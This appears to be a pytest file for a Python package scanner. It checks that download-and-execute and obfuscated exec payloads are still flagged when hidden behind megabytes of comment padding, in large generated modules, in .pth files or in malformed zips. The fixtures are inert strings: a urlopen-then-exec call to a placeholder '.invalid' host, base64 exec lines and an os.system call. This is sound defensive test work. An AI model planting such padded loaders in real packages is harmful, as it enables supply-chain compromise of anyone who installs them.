"""Every code file that runs on install or import is examined whatever its size, and a scan
says whether it examined everything (adversarial review, issue 11).

Payloads are inert strings inside archives built here (hosts under .invalid); nothing is run.
"""

from __future__ import annotations

import io
import zipfile

import pytest

from bastion.archives import Limits
from bastion.scanning import ScanConfig, scan_bytes
from bastion.scanning.result import GapKind, ScanResult
from bastion.scanning.stream import Compactor, stream_chunks

from .helpers import PLAIN_SETUP, sdist, wheel

MiB = 1024 * 1024
DOWNLOAD_EXEC = (
    "import urllib.request\n"
    "def _go():\n"
    "    code = urllib.request.urlopen('https://cdn.example.invalid/stage2.py').read()\n"
    "    exec(code)\n"
    "_go()\n"
)
COMMENT_LINE = "# " + "x" * 70 + "\n"


def comments(size: int) -> str:
    return COMMENT_LINE * (size // len(COMMENT_LINE) + 1)


def generated(size: int, seed: int = 0) -> str:
    """Plain generated code (no comments to strip), as code generators write it."""
    out: list[str] = []
    total, i = 0, 0
    while total < size:
        line = f"def f_{seed}_{i}(a, b):\n    return [a + {i * 7919 % 1000003} * b]\n"
        out.append(line)
        total += len(line)
        i += 1
    return "".join(out)


def rules(result: ScanResult) -> dict[str, str]:
    out: dict[str, str] = {}
    for f in result.findings:
        out.setdefault(f.rule, str(f.severity))
    return out


def gap_kinds(result: ScanResult) -> set[str]:
    return {str(g.kind) for g in result.gaps}


# --- the review's shape and its relatives: padding does not hide a payload ------------------


def test_review_shape_padded_imported_module_is_malicious() -> None:
    """pkg/__init__.py star-imports pkg/core.py: 2.2 MB of comment lines, then the payload."""
    data = wheel(
        {
            "pkg/__init__.py": "from .core import *\n",
            "pkg/core.py": comments(2_200_000) + DOWNLOAD_EXEC,
        },
        tag="py3-none-any",
    )
    result = scan_bytes(data, "demo-1.0-py3-none-any.whl")
    assert result.verdict == "malicious"
    assert rules(result).get("exec-downloaded-code") == "high"
    finding = next(f for f in result.findings if f.rule == "exec-downloaded-code")
    assert finding.file == "pkg/core.py"
    assert finding.line == comments(2_200_000).count("\n") + 4  # the file's own line number
    assert finding.excerpt == "exec(code)"
    assert result.complete


def test_padding_past_the_read_limit_is_streamed() -> None:
    """Past max_file_bytes (4 MiB) the member is read in chunks to its end."""
    data = wheel(
        {
            "pkg/__init__.py": "from .core import *\n",
            "pkg/core.py": comments(5 * MiB) + DOWNLOAD_EXEC,
        }
    )
    result = scan_bytes(data, "demo-1.0-py3-none-any.whl")
    assert result.verdict == "malicious"
    assert rules(result).get("exec-downloaded-code") == "high"
    assert result.complete


def test_padded_module_of_a_large_package_is_found_by_its_hints() -> None:
    """A library module of a larger package is parsed only on hints; hints past the head
    count, and its comment padding is compacted away in a second pass."""
    files: dict[str, str | bytes] = {f"pkg/m{i}.py": "X = 1\n" for i in range(10)}
    files["pkg/__init__.py"] = "from .core import *\n"
    files["pkg/core.py"] = comments(5 * MiB) + DOWNLOAD_EXEC
    result = scan_bytes(wheel(files), "demo-1.0-py3-none-any.whl")
    assert rules(result).get("exec-downloaded-code") == "high"
    assert result.complete


def test_install_time_code_over_the_parse_limit_is_searched_and_incomplete() -> None:
    """Real code (not comments) beyond max_python_bytes: tokens, and a gap."""
    setup = PLAIN_SETUP + generated(2_300_000) + DOWNLOAD_EXEC
    result = scan_bytes(sdist({"setup.py": setup}), "demo-1.0.tar.gz")
    assert result.verdict == "malicious"
    assert rules(result).get("download-and-execute") == "high"
    assert not result.complete
    assert gap_kinds(result) == {"parse"}
    assert any(f.rule == "unparsed-code" and f.file == "demo-1.0/setup.py" for f in result.findings)


def test_pth_import_line_after_padding() -> None:
    pth = "./some/path\n" * 500_000 + "import os; exec(__import__('base64').b64decode('eA=='))\n"
    result = scan_bytes(
        wheel({"demo.pth": pth, "demo/__init__.py": ""}), "demo-1.0-py3-none-any.whl"
    )
    assert rules(result).get("pth-code-execution") == "high"
    assert result.complete


def test_pth_import_line_after_an_overlong_path_line() -> None:
    """A line longer than the parse limit that Python does not run is skipped, not held."""
    pth = "x" * 3_000_000 + "\nimport os; exec('print(1)')\n"
    result = scan_bytes(
        wheel({"demo.pth": pth, "demo/__init__.py": ""}), "demo-1.0-py3-none-any.whl"
    )
    assert rules(result).get("pth-code-execution") == "high"
    assert result.complete


def test_token_across_chunk_boundary_is_found() -> None:
    text = b"x = 1\n" * 10 + b"# pad\n" + b"os.sys" + b"tem('id')\n"
    boundary = text.index(b"tem(")
    chunks = [text[:boundary], text[boundary:]]
    streamed = stream_chunks(chunks, compactor=None, deadline=float("inf"))
    hit = next(h for h in streamed.tokens if h.kind == "proc")
    assert hit.line == 12 and hit.detail == "os.system("


# --- the compactor ---------------------------------------------------------------------------


@pytest.mark.parametrize("piece", [1, 7, 4096])
def test_compaction_keeps_line_numbers_whatever_the_chunks(piece: int) -> None:
    source = (
        b"# -*- coding: latin-1 -*-\n#!\n\n   # indented comment\nx = 1  # trailing\r\n"
        b"\t\n\rdef f():\r    return 2\n# end"
    )
    compactor = Compactor(limit=1000)
    for i in range(0, len(source), piece):
        compactor.feed(source[i : i + piece])
    code = compactor.close()
    assert code is not None
    lines = code.split(b"\n")
    assert lines[0] == b"# -*- coding: latin-1 -*-"  # the encoding declaration stays
    assert lines[4] == b"x = 1  # trailing"
    assert lines[7] == b"def f():" and lines[8] == b"    return 2"  # \r counts as a line end
    assert all(not line for i, line in enumerate(lines) if i not in (0, 4, 7, 8))


def test_compaction_drops_an_overlong_comment_and_overflows_on_overlong_code() -> None:
    compactor = Compactor(limit=100)
    compactor.feed(b"#" + b"x" * 500)
    compactor.feed(b"x" * 500 + b"\nprint(1)\n")
    assert compactor.close() == b"\nprint(1)\n"
    compactor = Compactor(limit=100)
    compactor.feed(b"x = '" + b"y" * 500)
    compactor.feed(b"'\n")
    assert compactor.close() is None


# --- completeness ------------------------------------------------------------------------------


def test_an_ordinary_package_is_complete() -> None:
    result = scan_bytes(
        sdist({"setup.py": PLAIN_SETUP, "demo/__init__.py": "X = 1\n"}), "demo-1.0.tar.gz"
    )
    assert result.complete and result.gaps == []
    assert result.to_json()["complete"] is True


def test_out_of_time_is_incomplete_and_retryable() -> None:
    result = scan_bytes(
        sdist({"setup.py": PLAIN_SETUP}), "demo-1.0.tar.gz", config=ScanConfig(max_seconds=0.0)
    )
    assert not result.complete
    assert GapKind.TIME in {g.kind for g in result.gaps}
    assert result.retryable
    data = result.to_json()
    assert data["complete"] is False and data["gaps"][0]["kind"] == "time"


def test_parse_budget_is_a_gap_and_reaches_small_files_first() -> None:
    """Generated import-time modules cannot use up the parse budget before the small file
    that matters: large files are parsed last, smallest first."""
    files: dict[str, str | bytes] = {f"gen{i}.py": generated(300_000, i) for i in range(4)}
    files["pkg/__init__.py"] = "from . import helper\n"
    files["pkg/helper.py"] = "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n"
    files.update({f"pkg/m{i}.py": "X = 1\n" for i in range(4)})
    config = ScanConfig(max_parse_bytes=700_000)  # two of the four generated modules
    result = scan_bytes(wheel(files), "demo-1.0-py3-none-any.whl", config=config)
    assert result.verdict == "malicious"
    assert rules(result).get("exec-obfuscated-code") == "high"
    assert gap_kinds(result) == {"parse"}  # the rest were not needed to hold the file

    files["pkg/helper.py"] = "def value():\n    return 1\n"
    result = scan_bytes(wheel(files), "demo-1.0-py3-none-any.whl", config=config)
    assert result.verdict == "clean"
    assert not result.complete and gap_kinds(result) == {"parse"}
    assert result.retryable
    assert sum(g.kind is GapKind.PARSE for g in result.gaps) == 2
    # four times the budgets (the worker's retry) completes it
    result = scan_bytes(wheel(files), "demo-1.0-py3-none-any.whl", config=config.scaled(4))
    assert result.complete and result.verdict == "clean"


def test_review_shape_large_generated_modules_with_a_payload() -> None:
    """Six 2 MB root modules of generated code and a payload in a module the package
    imports: the payload is found before the generated code is parsed."""
    files: dict[str, str | bytes] = {f"gen{i}.py": generated(2_000_000, i) for i in range(6)}
    files["pkg/__init__.py"] = "from . import helper\n"
    files["pkg/helper.py"] = DOWNLOAD_EXEC
    result = scan_bytes(wheel(files), "demo-1.0-py3-none-any.whl")
    assert result.verdict == "malicious"
    assert result.seconds < 15  # a sanity bound: it used to stop at its 20 s time limit


def test_unreadable_member_is_a_gap() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("demo/__init__.py", "X = 1\n" * 1000)
        zf.writestr("demo-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\n")
    data = bytearray(buf.getvalue())
    start = data.index(b"demo/__init__.py") + len("demo/__init__.py")
    data[start + 2 : start + 40] = b"\xff" * 38  # corrupt the compressed stream
    result = scan_bytes(bytes(data), "demo-1.0-py3-none-any.whl")
    assert not result.complete
    assert "unreadable" in gap_kinds(result)
    assert not result.retryable


def test_member_over_the_size_limit_is_a_gap() -> None:
    data = wheel({"demo/__init__.py": "X = 1\n" * 20_000})
    config = ScanConfig(limits=Limits(max_seconds=20.0, max_member_size=50_000))
    result = scan_bytes(data, "demo-1.0-py3-none-any.whl", config=config)
    assert not result.complete
    assert "size" in gap_kinds(result)


def test_zip_that_readers_see_differently_is_held_and_incomplete() -> None:
    """What zipfile shows may not be what an installer unpacks: the scan cannot vouch for it."""
    data = wheel({"demo/__init__.py": "X = 1\n"}) + b"PK\x05\x06" + b"\0" * 18
    result = scan_bytes(data, "demo-1.0-py3-none-any.whl")
    assert rules(result).get("archive-zip-confusion") == "high"
    assert not result.complete and gap_kinds(result) == {"unreadable"}
